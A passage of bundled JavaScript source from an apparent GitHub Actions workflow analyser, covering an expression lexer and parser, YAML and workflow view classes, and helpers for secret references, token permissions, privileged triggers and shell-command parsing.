  /** Whether the previous token ends a value, which makes a following `.` a dereference, not `.5`. */
  afterValue = false;
  next() {
    const src = this.src;
    while (this.pos < src.length && isWhitespace(src.charCodeAt(this.pos))) this.pos++;
    const start = this.pos;
    if (start >= src.length) return { kind: "eof", start, end: start };
    const c = src.charCodeAt(start);
    const afterValue = this.afterValue;
    this.afterValue = false;
    if (c === 39) return this.string(start);
    if (isDigit(c) || c === 45 || c === 43 || c === 46 && !afterValue) {
      return this.number(start);
    }
    if (isIdentStart(c)) {
      let end = start + 1;
      while (end < src.length && isIdentPart(src.charCodeAt(end))) end++;
      this.pos = end;
      this.afterValue = true;
      return { kind: "ident", name: src.slice(start, end), start, end };
    }
    const ch = src[start];
    const pair = src.slice(start, start + 2);
    switch (ch) {
      case "(":
      case "[":
      case ",":
      case ".":
        return this.punct(ch, start, 1);
      case ")":
      case "]":
      case "*":
        this.afterValue = true;
        return this.punct(ch, start, 1);
      case "=":
      case "!":
      case "<":
      case ">":
        if (pair[1] === "=") return this.punct(pair, start, 2);
        if (ch === "=") abort("Unexpected '='; use '==' to compare", start, start + 1);
        return this.punct(ch, start, 1);
      case "&":
      case "|":
        if (pair === ch + ch) return this.punct(pair, start, 2);
        abort(`Unexpected '${ch}'; did you mean '${ch}${ch}'?`, start, start + 1);
    }
    if (ch === '"') abort("Strings must be enclosed in single quotes", start, start + 1);
    const width = c >= 55296 && c <= 56319 && start + 1 < src.length ? 2 : 1;
    abort(`Unexpected character '${src.slice(start, start + width)}'`, start, start + width);
  }
  punct(op, start, length) {
    this.pos = start + length;
    return { kind: "punct", op, start, end: start + length };
  }
  /** `'...'` with `''` as the escape for a quote. */
  string(start) {
    const src = this.src;
    let quote2 = src.indexOf("'", start + 1);
    while (quote2 !== -1 && src.charCodeAt(quote2 + 1) === 39) quote2 = src.indexOf("'", quote2 + 2);
    if (quote2 === -1) abort("Unterminated string literal", start, src.length);
    const raw = src.slice(start + 1, quote2);
    this.pos = quote2 + 1;
    this.afterValue = true;
    return { kind: "string", value: raw.includes("''") ? raw.replaceAll("''", "'") : raw, start, end: quote2 + 1 };
  }
  number(start) {
    const src = this.src;
    let end = start + 1;
    while (end < src.length && isNumberPart(src.charCodeAt(end))) end++;
    const lexeme = src.slice(start, end);
    if (!NUMBER_PATTERN.test(lexeme)) abort(`Invalid number '${truncate(lexeme)}'`, start, end);
    const negative = lexeme[0] === "-";
    const unsigned = lexeme[0] === "-" || lexeme[0] === "+" ? lexeme.slice(1) : lexeme;
    const magnitude = Number(unsigned);
    this.pos = end;
    this.afterValue = true;
    return { kind: "number", value: negative ? -magnitude : magnitude, start, end };
  }
};
function truncate(text, max = 32) {
  return text.length <= max ? text : `${text.slice(0, max)}…`;
}
var BINARY_LEVELS = [["||"], ["&&"], ["==", "!="], ["<", "<=", ">", ">="]];
var KEYWORD_LITERALS = /* @__PURE__ */ new Map([
  ["true", { kind: "boolean", value: true }],
  ["false", { kind: "boolean", value: false }],
  ["null", { kind: "null", value: null }],
  ["NaN", { kind: "number", value: NaN }],
  ["Infinity", { kind: "number", value: Infinity }]
]);
var Parser2 = class {
  constructor(src) {
    this.src = src;
    this.lexer = new Lexer2(src);
    this.token = this.lexer.next();
  }
  src;
  lexer;
  token;
  /** The last consumed token (for "unexpected end" errors). */
  previous = null;
  depth = 0;
  /**
   * Height of the node most recently built by `node()`. Every parse method builds its result last,
   * so callers read this right after a sub-parse (cheaper than a side table on large inputs).
   */
  lastHeight = 0;
  parse() {
    if (this.atEnd()) abort("Empty expression", 0, this.src.length);
    const ast = this.parseExpr();
    if (!this.atEnd()) this.unexpected("Unexpected");
    return ast;
  }
  parseExpr() {
    return this.parseBinary(0);
  }
  parseBinary(level) {
    if (level === BINARY_LEVELS.length) return this.parseUnary();
    const ops = BINARY_LEVELS[level];
    let left = this.parseBinary(level + 1);
    let leftHeight = this.lastHeight;
    for (; ; ) {
      const tok = this.token;
      if (tok.kind !== "punct" || !ops.includes(tok.op)) return left;
      this.advance();
      const right = this.parseBinary(level + 1);
      const height = Math.max(leftHeight, this.lastHeight);
      left = this.node({ type: "binary", op: tok.op, left, right, start: left.start, end: right.end }, height);
      leftHeight = this.lastHeight;
    }
  }
  parseUnary() {
    if (!this.atPunct("!")) return this.parsePostfix();
    const bang = this.advance();
    this.enter(bang);
    const operand = this.parseUnary();
    this.depth--;
    return this.node({ type: "unary", op: "!", operand, start: bang.start, end: operand.end }, this.lastHeight);
  }
  parsePostfix() {
    let expr = this.parsePrimary();
    if (expr.type !== "context" && expr.type !== "call" && expr.type !== "group") return expr;
    for (; ; ) {
      const height = this.lastHeight;
      if (this.atPunct(".")) {
        const dot = this.advance();
        const tok = this.token;
        if (tok.kind === "ident") {
          this.advance();
          expr = this.node({ type: "property", object: expr, name: tok.name, computed: false, start: expr.start, end: tok.end }, height);
        } else if (tok.kind === "punct" && tok.op === "*") {
          this.advance();
          expr = this.node({ type: "wildcard", object: expr, start: expr.start, end: tok.end }, height);
        } else {
          this.expected("a property name or '*'", dot);
        }
      } else if (this.atPunct("[")) {
        const open = this.advance();
        this.enter(open);
        if (this.atPunct("*")) {
          this.advance();
          const close = this.expect("]");
          expr = this.node({ type: "wildcard", object: expr, start: expr.start, end: close.end }, height);
        } else {
          const index = this.parseExpr();
          const close = this.expect("]");
          expr = this.node({ type: "index", object: expr, index, start: expr.start, end: close.end }, Math.max(height, this.lastHeight));
        }
        this.depth--;
      } else {
        return expr;
      }
    }
  }
  parsePrimary() {
    const tok = this.token;
    switch (tok.kind) {
      case "number":
        this.advance();
        return this.node({ type: "literal", kind: "number", value: tok.value, start: tok.start, end: tok.end });
      case "string":
        this.advance();
        return this.node({ type: "literal", kind: "string", value: tok.value, start: tok.start, end: tok.end });
      case "ident": {
        this.advance();
        const keyword = KEYWORD_LITERALS.get(tok.name);
        if (keyword) return this.node({ type: "literal", ...keyword, start: tok.start, end: tok.end });
        if (this.atPunct("(")) return this.parseCall(tok.name, tok.start);
        return this.node({ type: "context", name: tok.name, start: tok.start, end: tok.end });
      }
      case "punct":
        if (tok.op === "(") {
          const open = this.advance();
          this.enter(open);
          const expr = this.parseExpr();
          const close = this.expect(")");
          this.depth--;
          return this.node({ type: "group", expr, start: open.start, end: close.end }, this.lastHeight);
        }
        return this.expected("an expression");
      case "eof":
        return this.expected("an expression");
    }
  }
  parseCall(name, start) {
    const open = this.advance();
    this.enter(open);
    const args2 = [];
    let height = 0;
    if (!this.atPunct(")")) {
      for (; ; ) {
        args2.push(this.parseExpr());
        height = Math.max(height, this.lastHeight);
        if (!this.atPunct(",")) break;
        this.advance();
      }
    }
    const close = this.expect(")");
    this.depth--;
    return this.node({ type: "call", name, args: args2, start, end: close.end }, height);
  }
  // --- helpers ---
  advance() {
    const tok = this.token;
    this.previous = tok;
    this.token = this.lexer.next();
    return tok;
  }
  atEnd() {
    return this.token.kind === "eof";
  }
  atPunct(op) {
    return this.token.kind === "punct" && this.token.op === op;
  }
  expect(op) {
    if (!this.atPunct(op)) this.expected(`'${op}'`);
    return this.advance();
  }
  enter(opener) {
    if (++this.depth > MAX_NESTING) {
      abort(`Expression is nested too deeply (more than ${MAX_NESTING} levels)`, opener.start, opener.end);
    }
  }
  /** Finishes a node whose tallest child has height `childHeight`, enforcing MAX_AST_HEIGHT. */
  node(node, childHeight = 0) {
    const height = childHeight + 1;
    if (height > MAX_AST_HEIGHT) abort(`Expression is too complex (more than ${MAX_AST_HEIGHT} levels)`, node.start, node.end);
    this.lastHeight = height;
    return node;
  }
  expected(what, after = this.previous) {
    if (this.atEnd()) {
      const at = after ?? this.token;
      abort(`Expected ${what} after '${truncate(this.src.slice(at.start, at.end))}'`, at.start, at.end);
    }
    return this.unexpected(`Expected ${what} but found`);
  }
  unexpected(prefix) {
    const tok = this.token;
    abort(`${prefix} '${truncate(this.src.slice(tok.start, tok.end))}'`, tok.start, tok.end);
  }
};
function parseExpression(text) {
  return typeof text === "string" ? expressionMemo.get(text) : parseExpressionText(text);
}
var expressionMemo = new TextMemo(parseExpressionText);
function parseExpressionText(text) {
  if (typeof text !== "string") return { ast: null, errors: [{ message: "Expression text is not a string", start: 0, end: 0 }] };
  try {
    return { ast: new Parser2(text).parse(), errors: [] };
  } catch (error) {
    if (error instanceof SyntaxAbort) return { ast: null, errors: [error.error] };
    return { ast: null, errors: [{ message: `Could not parse expression: ${String(error)}`, start: 0, end: text.length }] };
  }
}
function findExpressions(text, from = 0, to = text.length) {
  const begin = clamp(Math.trunc(from) || 0, 0, text.length);
  const finish = clamp(Math.trunc(to) || 0, begin, text.length);
  const region = text.slice(begin, finish);
  const found = [];
  let pos = 0;
  for (; ; ) {
    const open = region.indexOf("${{", pos);
    if (open === -1) break;
    const innerStart = open + 3;
    const close = findClosing(region, innerStart);
    const terminated = close !== -1;
    const innerEnd = terminated ? close : region.length;
    const inner = region.slice(innerStart, innerEnd);
    const shared = parseExpression(inner);
    const parsed = terminated ? shared : { ast: shared.ast, errors: [{ message: "Unterminated expression: missing '}}'", start: -3, end: 0 }, ...shared.errors] };
    found.push({
      start: begin + open,
      end: begin + (terminated ? close + 2 : region.length),
      innerStart: begin + innerStart,
      innerEnd: begin + innerEnd,
      text: inner,
      terminated,
      parsed
    });
    if (!terminated) break;
    pos = close + 2;
  }
  return found;
}
function findClosing(text, from) {
  let inString = false;
  for (let i = from; i < text.length; i++) {
    const c = text.charCodeAt(i);
    if (c === 39) inString = !inString;
    else if (c === 125 && !inString && text.charCodeAt(i + 1) === 125) return i;
  }
  return -1;
}
function clamp(value, min, max) {
  return Math.min(Math.max(value, min), max);
}
function shiftNode(node, delta) {
  const start = node.start + delta;
  const end = node.end + delta;
  switch (node.type) {
    case "literal":
    case "context":
      return { ...node, start, end };
    case "property":
    case "wildcard":
      return { ...node, object: shiftNode(node.object, delta), start, end };
    case "index":
      return { ...node, object: shiftNode(node.object, delta), index: shiftNode(node.index, delta), start, end };
    case "call":
      return { ...node, args: node.args.map((arg) => shiftNode(arg, delta)), start, end };
    case "unary":
      return { ...node, operand: shiftNode(node.operand, delta), start, end };
    case "binary":
      return { ...node, left: shiftNode(node.left, delta), right: shiftNode(node.right, delta), start, end };
    case "group":
      return { ...node, expr: shiftNode(node.expr, delta), start, end };
  }
}
function shiftParsed(parsed, delta) {
  return {
    ast: parsed.ast ? shiftNode(parsed.ast, delta) : null,
    errors: parsed.errors.map((error) => ({ ...error, start: error.start + delta, end: error.end + delta }))
  };
}
function absoluteParse(occurrence) {
  let parsed = absoluteParses.get(occurrence);
  if (!parsed) {
    parsed = shiftParsed(occurrence.parsed, occurrence.innerStart);
    absoluteParses.set(occurrence, parsed);
  }
  return parsed;
}
var absoluteParses = new AttachedCache("absolute-parse");
function childNodes(node) {
  switch (node.type) {
    case "literal":
    case "context":
      return [];
    case "property":
    case "wildcard":
      return [node.object];
    case "index":
      return [node.object, node.index];
    case "call":
      return node.args;
    case "unary":
      return [node.operand];
    case "binary":
      return [node.left, node.right];
    case "group":
      return [node.expr];
  }
}
function walkExpression(node, visit3) {
  const stack = [[node, null]];
  while (stack.length > 0) {
    const [current, parent] = stack.pop();
    if (visit3(current, parent) === false) continue;
    const children = childNodes(current);
    for (let i = children.length - 1; i >= 0; i--) stack.push([children[i], current]);
  }
}
function functionKey(call) {
  return call.name.toLowerCase();
}
function contextPathSegments(node, options = {}) {
  const reversed = [];
  const fold = (segment) => options.caseInsensitive ? segment.toLowerCase() : segment;
  let current = node;
  for (; ; ) {
    switch (current.type) {
      case "context":
        reversed.push(current.name.toLowerCase());
        return reversed.reverse();
      case "group":
        current = current.expr;
        continue;
      case "property":
        reversed.push(fold(current.name));
        break;
      case "wildcard":
        reversed.push("*");
        break;
      case "index": {
        const index = unwrapGroups(current.index);
        if (index.type === "literal" && index.kind === "string") reversed.push(fold(index.value));
        else if (index.type === "literal" && index.kind === "number") reversed.push(String(index.value));
        else if (options.computedIndexAsWildcard) reversed.push("*");
        else return null;
        break;
      }
      default:
        return null;
    }
    current = current.object;
  }
}
var SIMPLE_SEGMENT = /^(?:[A-Za-z0-9_-]+|\*)$/;
function contextPath(node, options = {}) {
  const segments = contextPathSegments(node, options);
  if (!segments) return null;
  let path = segments[0];
  for (let i = 1; i < segments.length; i++) {
    const segment = segments[i];
    path += SIMPLE_SEGMENT.test(segment) ? `.${segment}` : `['${segment.replace(/'/g, "''")}']`;
  }
  return path;
}
function unwrapGroups(node) {
  while (node.type === "group") node = node.expr;
  return node;
}
var OPAQUE_FUNCTIONS = /* @__PURE__ */ new Set(["contains", "startswith", "endswith", "success", "always", "failure", "cancelled", "hashfiles"]);
function valueArguments(call) {
  const name = functionKey(call);
  if (OPAQUE_FUNCTIONS.has(name)) return [];
  if (name === "case") return call.args.filter((_, i) => i % 2 === 1 || i === call.args.length - 1);
  return call.args;
}
function valueLeaves(node) {
  const leaves = [];
  const stack = [node];
  const pushAll = (nodes) => {
    for (let i = nodes.length - 1; i >= 0; i--) stack.push(nodes[i]);
  };
  while (stack.length > 0) {
    const current = stack.pop();
    switch (current.type) {
      case "literal":
      case "context":
        leaves.push(current);
        break;
      case "property":
      case "index":
      case "wildcard": {
        const root = chainRoot(current);
        if (root.type === "context") leaves.push(current);
        else stack.push(root);
        break;
      }
      case "group":
        stack.push(current.expr);
        break;
      case "unary":
        break;
      case "binary":
        if (current.op === "||") pushAll([current.left, current.right]);
        else if (current.op === "&&") stack.push(current.right);
        break;
      case "call":
        pushAll(valueArguments(current));
        break;
    }
  }
  return leaves;
}
function chainRoot(node) {
  let current = node;
  for (; ; ) {
    if (current.type === "property" || current.type === "index" || current.type === "wildcard") current = current.object;
    else if (current.type === "group") current = current.expr;
    else return current;
  }
}

// server/src/parse/yaml-nodes.ts
var MAX_ALIAS_HOPS = 32;
function resolveAlias(node, doc) {
  let current = node;
  for (let hops = 0; current && isAlias(current); hops++) {
    if (!doc || hops >= MAX_ALIAS_HOPS) return null;
    try {
      current = current.resolve(doc);
    } catch {
      return null;
    }
  }
  return current ?? null;
}
function nodeSpan(node) {
  const range = node?.range;
  return range ? { start: range[0], end: range[1] } : null;
}
function entrySpan(entry) {
  return { start: entry.keySpan.start, end: Math.max(entry.keySpan.end, entry.valueSpan.end) };
}
function isNullValue(node) {
  return node === null || isScalar(node) && node.value === null;
}
function asMap(node) {
  return node && isMap(node) ? node : null;
}
function asSeq(node) {
  return node && isSeq(node) ? node : null;
}
function asScalar(node) {
  return node && isScalar(node) ? node : null;
}
function scalarText(node) {
  const scalar = asScalar(node);
  if (!scalar || scalar.value === null || scalar.value === void 0) return null;
  if (typeof scalar.value === "string") return scalar.value;
  if (typeof scalar.source === "string") return scalar.source;
  return String(scalar.value);
}
function mapEntries(map2, doc) {
  if (!map2) return [];
  const entries = [];
  for (const pair of map2.items) {
    const keyNode = pair.key;
    const keySpan = nodeSpan(keyNode);
    if (!keyNode || !keySpan) continue;
    const key = scalarText(resolveAlias(keyNode, doc)) ?? "";
    const rawValue = pair.value;
    const value = resolveAlias(rawValue, doc);
    const valueSpan = nodeSpan(rawValue) ?? { start: keySpan.end + 1, end: keySpan.end + 1 };
    entries.push({ key, keyNode, keySpan, value, valueSpan, pair });
  }
  return entries;
}
function seqItems(seq2, doc) {
  if (!seq2) return [];
  const items = [];
  for (const item of seq2.items) {
    const resolved = resolveAlias(item, doc);
    if (resolved) items.push(resolved);
  }
  return items;
}
function spannedString(node) {
  const value = scalarText(node);
  const span = nodeSpan(node);
  return value === null || !span ? null : { value, span };
}
function valueOffsetInSource(node, sourceText) {
  const scalar = asScalar(node);
  const span = nodeSpan(node);
  if (!scalar || !span || typeof scalar.value !== "string") return null;
  const quoted = scalar.type === "QUOTE_DOUBLE" || scalar.type === "QUOTE_SINGLE";
  const start = quoted ? span.start + 1 : span.start;
  return sourceText.startsWith(scalar.value, start) ? start : null;
}
function walkScalars(node, visit3, path = [], depth = 0) {
  if (!node || depth > 256) return;
  if (isScalar(node)) {
    visit3(node, path);
  } else if (isMap(node)) {
    for (const pair of node.items) {
      const key = pair.key;
      if (key && isScalar(key)) visit3(key, path);
      const keyName = scalarText(key) ?? "?";
      path.push(keyName);
      walkScalars(pair.value, visit3, path, depth + 1);
      path.pop();
    }
  } else if (isSeq(node)) {
    node.items.forEach((item, index) => {
      path.push(index);
      walkScalars(item, visit3, path, depth + 1);
      path.pop();
    });
  }
}

// server/src/parse/views.ts
var EMPTY_INDEX = { doc: null, entries: [], byKey: /* @__PURE__ */ new Map() };
var MAP_INDEX = /* @__PURE__ */ Symbol("actions-warden.map-index");
function indexOf(map2, doc) {
  if (!map2) return EMPTY_INDEX;
  const cached = map2[MAP_INDEX];
  if (cached && cached.doc === doc) return cached;
  const entries = mapEntries(map2, doc);
  const byKey = /* @__PURE__ */ new Map();
  for (const entry of entries) if (!byKey.has(entry.key)) byKey.set(entry.key, entry);
  const index = { doc, entries, byKey };
  map2[MAP_INDEX] = index;
  return index;
}
var MapView = class _MapView {
  constructor(map2, doc) {
    this.map = map2;
    this.doc = doc;
    const index = indexOf(map2, doc);
    this.entries = index.entries;
    this.byKey = index.byKey;
    this.children = void 0;
  }
  get(key) {
    return this.byKey.get(key);
  }
  has(key) {
    return this.byKey.has(key);
  }
  /** The string value of a key, with its span; null when absent or not a scalar. */
  string(key) {
    return spannedString(this.get(key)?.value ?? null);
  }
  /** A nested mapping's view; an empty view when absent or not a mapping. */
  child(key) {
    let view = this.children?.get(key);
    if (!view) {
      view = new _MapView(asMap(this.get(key)?.value ?? null), this.doc);
      (this.children ??= /* @__PURE__ */ new Map()).set(key, view);
    }
    return view;
  }
  get span() {
    return nodeSpan(this.map);
  }
};
var StepView = class extends MapView {
  constructor(map2, doc, index, node, listIndex = index, parallel = null) {
    super(map2, doc);
    this.index = index;
    this.node = node;
    this.listIndex = listIndex;
    this.parallel = parallel;
    this.parallelSteps = NO_STEPS;
  }
  index;
  node;
  listIndex;
  parallel;
  get uses() {
    return this.get("uses");
  }
  get run() {
    return this.get("run");
  }
  get with() {
    return this.child("with");
  }
  get env() {
    return this.child("env");
  }
  get shell() {
    return this.string("shell");
  }
  get if() {
    return this.get("if");
  }
  get name() {
    return this.string("name");
  }
  get id() {
    return this.string("id");
  }
  /** Where a person finds the step: `3` for the third item of `steps:`, `3.2` for the second step of the group there. */
  get position() {
    return this.parallel ? `${this.parallel.listIndex + 1}.${this.listIndex + 1}` : `${this.listIndex + 1}`;
  }
  /** `name`, `id`, the action or the first line of the script: how a person refers to this step. */
  get label() {
    const name = this.name?.value ?? this.id?.value;
    if (name) return name;
    const uses = scalarText(this.uses?.value ?? null);
    if (uses) return uses;
    const run2 = scalarText(this.run?.value ?? null);
    if (run2) {
      const first = run2.trim().split("\n")[0] ?? "";
      return first.length > 40 ? `${first.slice(0, 40)}…` : first;
    }
    if (this.parallelSteps.length > 0) return `parallel group at step ${this.position}`;
    return `step ${this.position}`;
  }
  get nodeSpan() {
    return nodeSpan(this.node);
  }
};
var NO_STEPS = Object.freeze([]);
function stepsOf(view) {
  const seq2 = asSeq(view.get("steps")?.value ?? null);
  const steps = [];
  const items = [];
  if (!seq2) return { steps, items };
  const doc = view.doc;
  for (let i = 0; i < seq2.items.length; i++) {
    const node = resolveAlias(seq2.items[i], doc);
    if (!node) continue;
    const step = new StepView(asMap(node), doc, steps.length, node, i);
    steps.push(step);
    items[i] = step;
    const group = asSeq(step.get("parallel")?.value ?? null);
    if (!group) continue;
    const members = [];
    for (let j = 0; j < group.items.length; j++) {
      const member = resolveAlias(group.items[j], doc);
      if (!member) continue;
      const nested = new StepView(asMap(member), doc, steps.length, member, j, step);
      steps.push(nested);
      members.push(nested);
    }
    step.parallelSteps = members;
  }
  return { steps, items };
}
function stepAtPath(items, path, at) {
  const position = path[at];
  if (typeof position !== "number") return null;
  const step = items[position];
  if (!step) return null;
  const inner = path[at + 2];
  if (path[at + 1] === "parallel" && typeof inner === "number" && step.parallelSteps.length > 0) {
    const member = step.parallelSteps.find((candidate) => candidate.listIndex === inner);
    return member ? { step: member, keysAt: at + 3 } : null;
  }
  return { step, keysAt: at + 1 };
}
function stepKeysStart(path, kind) {
  const at = kind === "workflow" ? path[0] === "jobs" && path[2] === "steps" ? 3 : -1 : path[0] === "runs" && path[1] === "steps" ? 2 : -1;
  if (at === -1 || typeof path[at] !== "number") return -1;
  return path[at + 1] === "parallel" && typeof path[at + 2] === "number" ? at + 3 : at + 1;
}
var JobView = class extends MapView {
  constructor(entry, doc) {
    super(asMap(entry.value), doc);
    this.entry = entry;
    const lists = stepsOf(this);
    this.steps = lists.steps;
    this.stepItems = lists.items;
    this.attachments = {};
  }
  entry;
  /** Every step, flattened in document order (the steps of a `parallel:` group follow their group's step). */
  steps;
  /** The step a key path `jobs.<id>.steps.<n>[.parallel.<m>]...` leads into, and where its keys start in the path. */
  stepAt(path) {
    return path[2] === "steps" ? stepAtPath(this.stepItems, path, 3) : null;
  }
  get id() {
    return this.entry.key;
  }
  get idSpan() {
    return this.entry.keySpan;
  }
  get permissions() {
    return this.get("permissions");
  }
  get environment() {
    return this.get("environment");
  }
  get runsOn() {
    return this.get("runs-on");
  }
  get container() {
    return this.get("container");
  }
  get services() {
    return this.child("services");
  }
  get strategy() {
    return this.child("strategy");
  }
  get env() {
    return this.child("env");
  }
  get if() {
    return this.get("if");
  }
  /** `uses:` of a job that calls a reusable workflow. */
  get uses() {
    return this.get("uses");
  }
  get with() {
    return this.child("with");
  }
  get secrets() {
    return this.get("secrets");
  }
  get isReusableWorkflowCall() {
    return this.has("uses");
  }
  get span() {
    return entrySpan(this.entry);
  }
};
var WorkflowView = class extends MapView {
  triggers;
  jobs;
  constructor(map2, doc) {
    super(map2, doc);
    this.triggers = this.readTriggers();
    this.jobs = this.child("jobs").entries.map((entry) => new JobView(entry, doc));
    this.attachments = {};
  }
  get on() {
    return this.get("on");
  }
  get permissions() {
    return this.get("permissions");
  }
  get jobsEntry() {
    return this.get("jobs");
  }
  get env() {
    return this.child("env");
  }
  hasTrigger(name) {
    return this.triggers.some((trigger) => trigger.name === name);
  }
  trigger(name) {
    return this.triggers.find((trigger) => trigger.name === name);
  }
  job(id) {
    return this.jobs.find((job) => job.id === id);
  }
  readTriggers() {
    const on = this.on;
    if (!on || !on.value) return [];
    const single = spannedString(on.value);
    if (single) return [{ name: single.value, span: single.span, config: null }];
    const seq2 = asSeq(on.value);
    if (seq2) {
      const triggers = [];
      for (const item of seqItems(seq2, this.doc)) {
        const name = spannedString(item);
        if (name) triggers.push({ name: name.value, span: name.span, config: null });
      }
      return triggers;
    }
    return mapEntries(asMap(on.value), this.doc).map((entry) => ({
      name: entry.key,
      span: entry.keySpan,
      config: new MapView(asMap(entry.value), this.doc)
    }));
  }
};
var ActionView = class extends MapView {
  runs;
  /** Every step of a composite action, flattened as a job's are. */
  steps;
  constructor(map2, doc) {
    super(map2, doc);
    this.runs = this.child("runs");
    const lists = stepsOf(this.runs);
    this.steps = lists.steps;
    this.stepItems = lists.items;
  }
  /** The step a key path `runs.steps.<n>[.parallel.<m>]...` leads into, and where its keys start in the path. */
  stepAt(path) {
    return path[0] === "runs" && path[1] === "steps" ? stepAtPath(this.stepItems, path, 2) : null;
  }
  /** `composite`, `docker`, `node20`, ... */
  get using() {
    return this.runs.string("using");
  }
  get isComposite() {
    return this.using?.value === "composite";
  }
  get inputs() {
    return this.child("inputs");
  }
  /** `runs.image` of a Docker action. */
  get image() {
    return this.runs.get("image");
  }
};
var DependabotView = class extends MapView {
  updates;
  constructor(map2, doc) {
    super(map2, doc);
    this.updates = seqItems(asSeq(this.get("updates")?.value ?? null), doc).map((node) => new MapView(asMap(node), doc));
  }
};

// server/src/knowledge/job-facts.ts
function stepAction(file, step) {
  let index = stepActionIndex.get(file);
  if (!index) {
    index = /* @__PURE__ */ new Map();
    for (const site of file.uses) {
      if (!site.step || index.has(site.step) || site.reference.kind !== "remote") continue;
      const reference = site.reference;
      const name = (reference.subpath ? `${reference.repository}/${reference.subpath}` : reference.repository).toLowerCase();
      index.set(site.step, { name, ref: reference.ref, site, reference });
    }
    stepActionIndex.set(file, index);
  }
  return index.get(step) ?? null;
}
var stepActionIndex = new AttachedCache("step-actions", attachmentsOf);
function stepUses(file, step, ...names) {
  const action = stepAction(file, step);
  return action && names.includes(action.name) ? action : null;
}
function localActionPath(file, step) {
  for (const site of file.uses) {
    if (site.step !== step) continue;
    if (site.reference.kind === "local" || site.reference.kind === "self") return site.reference.path;
  }
  return null;
}
function secretReferences(file, span, includeToken = false) {
  if (!span) return [];
  const found = [];
  for (const reference of allSecretReferences(file)) {
    if (reference.siteStart < span.start || reference.siteEnd > span.end || reference.isToken && !includeToken) continue;
    found.push({ name: reference.name, span: { start: reference.start, end: reference.end } });
  }
  return found;
}
function allSecretReferences(file) {
  const cached = secretReferenceCache.get(file);
  if (cached) return cached;
  const found = [];
  for (const site of file.expressions) {
    const occurrence = site.occurrence;
    if (!occurrence.terminated) continue;
    const ast = absoluteParse(occurrence).ast;
    if (!ast) continue;
    const add = (name, start, end, isToken) => found.push({ siteStart: occurrence.start, siteEnd: occurrence.end, name, start, end, isToken });
    walkExpression(ast, (node) => {
      if (node.type !== "property" && node.type !== "index" && node.type !== "context") return;
      const segments = contextPathSegments(node, {});
      if (!segments || segments[0] !== "secrets") {
        if (node.type === "index" && contextPathSegments(node.object)?.join(".") === "secrets") {
          add("*", node.start, node.end, false);
          return false;
        }
        return;
      }
      if (segments.length < 2) return;
      const name = segments[1];
      add(name, node.start, node.end, name.toUpperCase() === "GITHUB_TOKEN");
      return false;
    });
  }
  secretReferenceCache.set(file, found);
  return found;
}
var secretReferenceCache = new AttachedCache("secret-references", attachmentsOf);
function effectivePermissions(workflow, job) {
  return job.permissions ?? workflow.permissions;
}
function permissionLevel(workflow, job, scope) {
  const entry = effectivePermissions(workflow, job);
  if (!entry) return "default";
  const shorthand = scalarText(entry.value);
  if (shorthand === "write-all") return "write";
  if (shorthand === "read-all") return scope === "id-token" ? "none" : "read";
  if (!entry.value || !isMap(entry.value)) return "none";
  const value = scalarText(new MapView(asMap(entry.value), workflow.doc).get(scope)?.value ?? null);
  return value === "write" ? "write" : value === "read" ? "read" : "none";
}
function hasIdTokenWrite(workflow, job) {
  return permissionLevel(workflow, job, "id-token") === "write";
}
function tokenMayWrite(workflow, job) {
  const entry = effectivePermissions(workflow, job);
  if (!entry) return true;
  const shorthand = scalarText(entry.value);
  if (shorthand === "write-all") return true;
  if (shorthand !== null || !entry.value || !isMap(entry.value)) return false;
  return new MapView(asMap(entry.value), workflow.doc).entries.some((scope) => scalarText(scope.value) === "write");
}
var PRIVILEGED_OUTSIDER_TRIGGERS = [
  "pull_request_target",
  "workflow_run",
  "issue_comment",
  "issues",
  "discussion",
  "discussion_comment"
];
function privilegedTriggers(workflow, names = PRIVILEGED_OUTSIDER_TRIGGERS) {
  return workflow.triggers.map((trigger) => trigger.name).filter((name) => names.includes(name));
}
function input(step, name) {
  return scalarText(step.with.get(name)?.value ?? null);
}
function visibleEnv(file, job, step) {
  const env = /* @__PURE__ */ new Map();
  const add = (view) => {
    if (!view) return;
    for (const entry of view.entries) env.set(entry.key, scalarText(entry.value) ?? "");
  };
  add(file.workflow?.env);
  add(job?.env);
  add(step?.env);
  return env;
}
function allSteps(file) {
  const out = [];
  if (file.workflow) for (const job of file.workflow.jobs) for (const step of job.steps) out.push({ job, step, steps: job.steps });
  if (file.action) for (const step of file.action.steps) out.push({ job: null, step, steps: file.action.steps });
  return out;
}
function actionMajorVersion(file, action) {
  const ref2 = action.ref ?? "";
  const direct = /^v?(\d+)(\.\d+)*$/.exec(ref2);
  if (direct) return Number(direct[1]);
  const line = file.lines.lineAt(action.site.entry.valueSpan.start);
  const comment = /#\s*(?:tag[=:]\s*)?v?(\d+)(?:\.\d+)*\b/.exec(
    file.lines.lineText(line).slice(action.site.entry.valueSpan.end - file.lines.lineStarts[line])
  );
  return comment ? Number(comment[1]) : null;
}

// server/src/knowledge/shell/command.ts
var KEYWORDS = /* @__PURE__ */ new Set([
  "if",
  "then",
  "else",
  "elif",
  "do",
  "while",
  "until",
  "!",
  "{",
  "time",
  "exec",
  "command",
  "builtin",
  "nohup",
  "sudo",
  "doas",
  "eval"
]);
var SKIP_ARG_WRAPPERS = /* @__PURE__ */ new Set(["env"]);
function isAssignment(raw) {
  const first = raw.charCodeAt(0);
  if (!(first >= 65 && first <= 90 || first >= 97 && first <= 122 || first === 95)) return false;
  let i = 1;
  for (; i < raw.length; i++) {
    const c = raw.charCodeAt(i);
    if (!(c >= 65 && c <= 90 || c >= 97 && c <= 122 || c >= 48 && c <= 57 || c === 95)) break;
  }
  if (raw.charCodeAt(i) === 43) i++;
  return raw.charCodeAt(i) === 61;
}
function buildCommand(words2, redirects, heredocs, start, end, connector, inSubstitution) {
  let i = 0;
  const assignments = [];
  while (i < words2.length) {
    const word = words2[i];
    if (isAssignment(word.raw)) {
      assignments.push(word);
      i++;
    } else if (KEYWORDS.has(word.text)) {
      i++;
      if (word.text === "sudo" || word.text === "doas")
        while (i < words2.length && words2[i].text.startsWith("-")) i += words2[i].text === "-u" ? 2 : 1;
    } else if (SKIP_ARG_WRAPPERS.has(word.text)) {
      i++;
      while (i < words2.length && (words2[i].text.startsWith("-") || /^[A-Za-z_][A-Za-z0-9_]*=/.test(words2[i].text))) i++;
    } else {
      break;
    }
  }
  const argv = words2.slice(i);
  const first = argv[0]?.text ?? "";
  const name = first.replace(/^.*[\\/]/, "").toLowerCase();
  return {
    words: words2,
    argv,
    name,
    assignments,
    redirects,
    heredocs,
    span: { start, end },
    connector,
    pipeline: 0,
    pipesTo: false,
    inSubstitution,
    line: 0
    // set by parseShell
  };
}

// server/src/knowledge/shell/reader.ts
